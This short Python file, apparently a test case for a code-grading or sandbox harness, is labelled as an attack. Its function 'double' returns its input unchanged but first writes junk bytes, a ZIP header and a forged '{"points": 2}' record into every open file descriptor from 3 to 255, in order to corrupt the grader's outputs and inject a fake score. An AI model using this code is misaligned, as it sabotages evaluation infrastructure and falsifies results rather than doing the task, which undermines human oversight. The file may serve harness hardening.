# attack: writes into everything that is open
# points: double=0 total=4
# %% double
import os
def double(x):
    for number in range(3, 256):
        for data in (b"\0" * 8, b"\xff" * 64, b"PK\3\4", b'{"points": 2}\n'):
            try:
                os.set_blocking(number, False)
                os.write(number, data)
            except OSError:
                pass
    return x
